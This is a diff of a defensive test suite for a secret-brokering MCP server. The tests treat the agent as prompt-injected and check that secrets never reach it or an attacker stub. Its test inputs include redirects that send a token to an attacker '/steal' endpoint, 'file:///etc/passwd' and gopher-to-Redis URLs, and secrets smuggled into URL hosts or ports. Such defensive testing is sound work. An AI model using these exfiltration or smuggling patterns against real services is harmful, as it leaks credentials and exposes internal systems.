@@ -1,28 +1,23 @@
 // The agent is hostile: a prompt injection drives every tool call. Each case goes through the real
 // server (the built CLI's `serve`, spawned) over MCP with the SDK's Client, and asserts both that
 // the agent saw no trace of any value (every encoding) and that nothing reached the attacker's
-// server, to which no secret is bound (no request, no TCP connection).
-import { readFileSync } from 'node:fs';
-import { join } from 'node:path';
+// server, to which no secret is bound (no request, no TCP connection). SSRF and DNS cases are in
+// ssrf.test.ts.
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { createGuardedAgent } from '../../src/egress/connector.js';
-import { filesContaining, REPO, runCli, tempHome, type TempHome } from '../helpers/cli.js';
+import { filesContaining, runCli, tempHome, type TempHome } from '../helpers/cli.js';
 import { connectStdio, visible, type StdioSession } from '../helpers/mcp.js';
 import { startStub, type Stub } from '../helpers/stub.js';
-import { expectNoTrace } from '../helpers/traces.js';
-import { request } from 'undici';
+import { expectNoTrace, expectOutcome } from '../helpers/traces.js';
 
 const KEY = 'sk-live+Adv/ers=ar"ial\'&<key>-9f8e7d6c5b4a';
 const PATHKEY = 'pk-path-Value-Q1w2E3r4T5y6U7i8';
 const HDR = 'hdr-only-Value-Zx9Cv8Bn7Mm6Ll5';
-const WILD = 'wild-card-Value-Aa1Bb2Cc3Dd4Ee5';
-const VALUES = [KEY, PATHKEY, HDR, WILD];
+const VALUES = [KEY, PATHKEY, HDR];
 
 let t: TempHome;
 let api: Stub; // the API the secrets are bound to
 let attacker: Stub; // nothing is bound to it; listens on :: so IPv4 and IPv6 loopback both reach it
 let plain: StdioSession;
-let pinned: StdioSession;
 
 const call = (s: StdioSession, args: Record<string, unknown>) => s.call('http_request', args);
 const bearer = { Authorization: 'Bearer <secrets.KEY>' };
@@ -44,17 +39,7 @@ beforeAll(async () => {
   set('KEY', KEY, '--host', api.origin, '--placement', 'header', '--placement', 'query', '--placement', 'body');
   set('PATHKEY', PATHKEY, '--host', api.origin, '--placement', 'path');
   set('HDR', HDR, '--host', api.origin);
-  // A wildcard binding is not an exact-origin opt-in: names under it must still pass the address guard.
-  set('WILD', WILD, '--host', `http://*.evil.test:${attacker.port}`);
   plain = await connectStdio(t.env);
-  pinned = await connectStdio(t.env, [
-    '--resolve', 'evil.test=127.0.0.1',
-    '--resolve', 'a.evil.test=127.0.0.1',
-    '--resolve', 'metadata.test=169.254.169.254',
-    '--resolve', 'mixed.test=93.184.216.34,127.0.0.1',
-    '--resolve', 'v6.test=::1',
-    '--resolve', 'mapped.test=::ffff:127.0.0.1',
-  ]);
 });
 
 beforeEach(() => {
@@ -64,90 +49,12 @@ beforeEach(() => {
 
 afterAll(async () => {
   await plain?.close();
-  await pinned?.close();
   await api?.close();
   await attacker?.close();
   // Over the whole suite: no value in the servers' stderr or any file under the home folder.
-  expectNoTrace(plain.stderr() + pinned.stderr(), VALUES, 'server stderr');
+  expectNoTrace(plain.stderr(), VALUES, 'server stderr');
   expect(filesContaining(t.home, VALUES)).toEqual([]);
   t.cleanup();
-});
-
-describe('SSRF: every URL of shared/testdata/ssrf-urls.txt is refused with no connection opened', () => {
-  const lines = readFileSync(join(REPO, '../shared/testdata/ssrf-urls.txt'), 'utf8')
-    .split('\n')
-    .map((l) => l.trim())
-    .filter((l) => l && !l.startsWith('#'));
-
-  it('has the attack list', () => {
-    expect(lines.length).toBeGreaterThanOrEqual(40);
-  });
-
-  for (const line of lines) {
-    it(`refuses ${line}`, async () => {
-      // Aim every address at the attacker's port, so a connection that got through would be counted.
-      let target = line;
-      try {
-        const u = new URL(line);
-        if (u.protocol === 'http:' || u.protocol === 'https:') {
-          u.protocol = 'http:';
-          u.port = String(attacker.port);
-          target = u.toString();
-        }
-      } catch {
-        // unparseable: sent as is
-      }
-      // Without a secret only the address guard (or the scheme/URL check) stands in the way.
-      const free = await call(plain, { method: 'GET', url: target });
-      expect(free.isError, `${target} was not refused`).toBe(true);
-      expect(visible(free)).toMatch(/ADDRESS_NOT_ALLOWED|SCHEME_NOT_ALLOWED|BAD_INPUT/);
-      // With one, host binding refuses first; either way nothing may connect.
-      const withSecret = await call(plain, { method: 'GET', url: target, headers: bearer });
-      expect(withSecret.isError).toBe(true);
-      expectNoTrace(visible(withSecret), VALUES);
-      attackerSawNothing();
-    });
-  }
-});
-
-describe('DNS answers are checked on the address actually connected to', () => {
-  it.each([
-    ['a name resolving to 127.0.0.1', 'evil.test'],
-    ['a name resolving to the metadata address 169.254.169.254', 'metadata.test'],
-    ['a name answering a public address first and a private one next', 'mixed.test'],
-    ['a name resolving to ::1', 'v6.test'],
-    ['a name resolving to IPv4-mapped ::ffff:127.0.0.1', 'mapped.test'],
-  ])('refuses %s', async (_label, host) => {
-    const r = await call(pinned, { method: 'GET', url: `http://${host}:${attacker.port}/echo` });
-    expect(r.isError).toBe(true);
-    expect(visible(r)).toContain('ADDRESS_NOT_ALLOWED');
-    attackerSawNothing();
-  });
-
-  it('refuses a secret bound by wildcard when the name resolves to a private address', async () => {
-    const r = await call(pinned, { method: 'GET', url: `http://a.evil.test:${attacker.port}/echo`, headers: { 'X-Key': '<secrets.WILD>' } });
-    expect(r.isError).toBe(true);
-    expect(visible(r)).toContain('ADDRESS_NOT_ALLOWED');
-    expectNoTrace(visible(r), VALUES);
-    attackerSawNothing();
-  });
-
-  it('DNS rebinding: a name that answered a public address, then a private one, is refused at connect time', async () => {
-    let lookups = 0;
-    const agent = createGuardedAgent({
-      resolver: async () => (lookups++ === 0 ? [{ address: '203.0.113.7', family: 4 }] : [{ address: '127.0.0.1', family: 4 }]),
-    });
-    try {
-      const first = await request(`http://rebind.test:${attacker.port}/`, { dispatcher: agent }).catch((e: Error) => e);
-      const second = await request(`http://rebind.test:${attacker.port}/`, { dispatcher: agent }).catch((e: Error) => e);
-      expect(first).toBeInstanceOf(Error); // 203.0.113.0/24 is documentation space: refused too
-      expect(second).toBeInstanceOf(Error);
-      expect(lookups).toBe(2);
-      attackerSawNothing();
-    } finally {
-      await agent.close();
-    }
-  });
 });
 
 describe('redirects never carry a secret elsewhere and never reach private addresses', () => {
@@ -155,7 +62,7 @@ describe('redirects never carry a secret elsewhere and never reach private addre
     it(`${status} to the attacker with a secret comes back to the agent, unfollowed`, async () => {
       const to = encodeURIComponent(`http://localhost:${attacker.port}/steal`);
       const r = await call(plain, { method: 'POST', url: `${api.url}/redirect?status=${status}&to=${to}`, headers: bearer, body: 'token=<secrets.KEY>' });
-      expect(r.isError, visible(r)).toBeFalsy();
+      expectOutcome(r, { redacted: [] }); // the redirect itself echoes nothing
       expect((r.structuredContent as { status: number }).status).toBe(status);
       expect((r.structuredContent as { redirectNotFollowed?: string }).redirectNotFollowed).toBeTruthy();
       expectNoTrace(visible(r), VALUES);
@@ -181,6 +88,7 @@ describe('redirects never carry a secret elsewhere and never reach private addre
   it('a redirect to file: or gopher: is never followed', async () => {
     for (const to of ['file:///etc/passwd', 'gopher://127.0.0.1:6379/_x']) {
       const r = await call(plain, { method: 'GET', url: `${api.url}/redirect?status=302&to=${encodeURIComponent(to)}`, headers: bearer });
+      expectOutcome(r, { redacted: [] });
       expect((r.structuredContent as { redirectNotFollowed?: string }).redirectNotFollowed).toMatch(/never followed/);
     }
   });
@@ -190,61 +98,68 @@ describe('values reflected by the API come back scrubbed, in every encoding', ()
   for (const as of ['raw', 'base64', 'base64url', 'basic', 'hex', 'HEX', 'url', 'form', 'json', 'html']) {
     it(`reflected as ${as}`, async () => {
       const r = await call(plain, { method: 'GET', url: `${api.url}/reflect?as=${as}`, headers: bearer });
-      expect(r.isError, visible(r)).toBeFalsy();
+      expectOutcome(r, { redacted: ['KEY'] });
       expect(api.requests[0]!.headers.authorization).toBe(`Bearer ${KEY}`);
-      expect((r.structuredContent as { redacted: string[] }).redacted).toContain('KEY');
       expectNoTrace(visible(r), VALUES);
     });
   }
 
   it.each([
-    ['the JSON echo of headers', { method: 'GET', url: '/echo', headers: bearer }],
-    ['a query value echoed in the URL', { method: 'GET', url: '/echo?k=<secrets.KEY>' }],
-    ['a body echoed back', { method: 'POST', url: '/echo', body: 'k=<secrets.KEY>' }],
-    ['a JSON body echoed back', { method: 'POST', url: '/echo', json: { k: '<secrets.KEY>', nested: ['<secrets.KEY>'] } }],
-    ['a path value echoed back', { method: 'GET', url: '/echo/<secrets.PATHKEY>' }],
-    ['response headers', { method: 'GET', url: '/headers', headers: { 'X-Api-Key': '<secrets.HDR>', Authorization: 'Bearer <secrets.KEY>' } }],
-    ['a 401 status text, WWW-Authenticate and body', { method: 'GET', url: '/unauthorized', headers: bearer }],
-    ['a redirect Location and body', { method: 'GET', url: '/redirect-echo', headers: bearer }],
-    ['a gzip body', { method: 'GET', url: '/gzip', headers: bearer }],
-    ['a brotli body', { method: 'GET', url: '/br', headers: bearer }],
-    ['a deflate body', { method: 'GET', url: '/deflate', headers: bearer }],
-  ])('in %s', async (_label, req) => {
+    ['the JSON echo of headers', { method: 'GET', url: '/echo', headers: bearer }, ['KEY']],
+    ['a query value echoed in the URL', { method: 'GET', url: '/echo?k=<secrets.KEY>' }, ['KEY']],
+    ['a body echoed back', { method: 'POST', url: '/echo', body: 'k=<secrets.KEY>' }, ['KEY']],
+    ['a JSON body echoed back', { method: 'POST', url: '/echo', json: { k: '<secrets.KEY>', nested: ['<secrets.KEY>'] } }, ['KEY']],
+    // A 404: the value comes back only in the final URL (checked for its marker below).
+    ['a path value echoed back', { method: 'GET', url: '/echo/<secrets.PATHKEY>' }, []],
+    ['response headers', { method: 'GET', url: '/headers', headers: { 'X-Api-Key': '<secrets.HDR>', Authorization: 'Bearer <secrets.KEY>' } }, ['HDR', 'KEY']],
+    ['a 401 status text, WWW-Authenticate and body', { method: 'GET', url: '/unauthorized', headers: bearer }, ['KEY']],
+    ['a redirect Location and body', { method: 'GET', url: '/redirect-echo', headers: bearer }, ['KEY']],
+    ['a gzip body', { method: 'GET', url: '/gzip', headers: bearer }, ['KEY']],
+    ['a brotli body', { method: 'GET', url: '/br', headers: bearer }, ['KEY']],
+    ['a deflate body', { method: 'GET', url: '/deflate', headers: bearer }, ['KEY']],
+  ] as Array<[string, Record<string, unknown> & { url: string }, string[]]>)('in %s', async (_label, req, names) => {
     const r = await call(plain, { ...req, url: `${api.url}${req.url}` });
     expect(api.requests.length).toBeGreaterThan(0);
+    expectOutcome(r, { redacted: names });
+    if (names.length === 0) expect(visible(r)).toContain('[REDACTED:PATHKEY]');
     expectNoTrace(visible(r), VALUES);
   });
 
   it('a value this process resolved earlier is scrubbed from a later, secret-free response', async () => {
     await call(plain, { method: 'GET', url: `${api.url}/echo`, headers: bearer });
     const r = await call(plain, { method: 'GET', url: `${api.url}/last` });
-    expect(r.isError, visible(r)).toBeFalsy();
+    expectOutcome(r, { redacted: ['KEY'] });
     expect(visible(r)).toContain('[REDACTED:KEY]');
     expectNoTrace(visible(r), VALUES);
   });
 
   it('redaction runs before truncation: a cut in the middle of a value leaks no prefix of it', async () => {
+    const named = new Set<string>();
     for (let maxBytes = 60; maxBytes < 200; maxBytes += 7) {
       const r = await call(plain, { method: 'POST', url: `${api.url}/echo`, body: 'k=<secrets.KEY>', maxBytes });
+      // A cut made before the value is read leaves nothing to scrub; some cut of the sweep must reach it.
+      expectOutcome(r, { redacted: [] });
+      for (const n of (r.structuredContent as { redacted: string[] }).redacted) named.add(n);
       const text = visible(r);
       for (let i = 0; i + 8 <= KEY.length; i++) expect(text.includes(KEY.slice(i, i + 8)), `maxBytes ${maxBytes}`).toBe(false);
     }
+    expect([...named]).toContain('KEY');
   });
 });
 
 describe('requests that would move or smuggle a secret are refused with nothing sent', () => {
   it.each([
-    ['secret in the host', `http://<secrets.KEY>.example.com/`],
-    ['secret in user info', 'http://user:<secrets.KEY>@127.0.0.1/'],
-    ['secret as the port', 'http://127.0.0.1:<secrets.KEY>/'],
-    ['secret in the scheme', '<secrets.KEY>://127.0.0.1/'],
-    ['secret in the fragment', 'API/echo#<secrets.KEY>'],
-    ['header-only secret in the query', 'API/echo?x=<secrets.HDR>'],
-    ['header-only secret in the path', 'API/echo/<secrets.HDR>'],
-    ['unknown secret name', 'API/echo?x=<secrets.NOPE>'],
-  ])('%s', async (_label, url) => {
+    ['secret in the host', 'PLACEMENT_NOT_ALLOWED', `http://<secrets.KEY>.example.com/`],
+    ['secret in user info', 'PLACEMENT_NOT_ALLOWED', 'http://user:<secrets.KEY>@127.0.0.1/'],
+    ['secret as the port', 'PLACEMENT_NOT_ALLOWED', 'http://127.0.0.1:<secrets.KEY>/'],
+    ['secret in the scheme', 'PLACEMENT_NOT_ALLOWED', '<secrets.KEY>://127.0.0.1/'],
+    ['secret in the fragment', 'PLACEMENT_NOT_ALLOWED', 'API/echo#<secrets.KEY>'],
+    ['header-only secret in the query', 'PLACEMENT_NOT_ALLOWED', 'API/echo?x=<secrets.HDR>'],
+    ['header-only secret in the path', 'PLACEMENT_NOT_ALLOWED', 'API/echo/<secrets.HDR>'],
+    ['unknown secret name', 'SECRET_NOT_FOUND', 'API/echo?x=<secrets.NOPE>'],
+  ])('%s', async (_label, code, url) => {
     const r = await call(plain, { method: 'GET', url: url.replace('API', api.url) });
-    expect(r.isError).toBe(true);
+    expectOutcome(r, { error: code });
     expect(api.requests).toHaveLength(0);
     expectNoTrace(visible(r), VALUES);
   });
@@ -281,7 +196,7 @@ describe('proxy variables are never honoured', () => {
     const session = await connectStdio({ ...t.env, HTTP_PROXY: proxyUrl, HTTPS_PROXY: proxyUrl, ALL_PROXY: proxyUrl, http_proxy: proxyUrl, https_proxy: proxyUrl });
     try {
       const r = await call(session, { method: 'GET', url: `${api.url}/echo`, headers: bearer });
-      expect(r.isError, visible(r)).toBeFalsy();
+      expectOutcome(r, { redacted: ['KEY'] });
       expect(api.requests).toHaveLength(1);
       expectNoTrace(visible(r), VALUES);
       attackerSawNothing();
@@ -320,16 +235,9 @@ describe('error paths carry no value', () => {
     expectNoTrace(visible(r), VALUES);
   });
 
-  it('a DNS failure', async () => {
-    const r = await call(pinned, { method: 'GET', url: `http://no-such-host.invalid:${attacker.port}/?x=1`, headers: { 'X-Key': 'plain' } });
-    expect(r.isError).toBe(true);
-    expectNoTrace(visible(r), VALUES);
-    attackerSawNothing();
-  });
-
   it('input validation errors echo no value (the agent never had one to give)', async () => {
     const r = await call(plain, { method: 'BREW', url: `${api.url}/echo`, headers: bearer });
-    expect(r.isError).toBe(true);
+    expectOutcome(r, { error: /Input validation/ }); // the SDK's schema check, before the broker
     expect(api.requests).toHaveLength(0);
     expectNoTrace(visible(r), VALUES);
   });
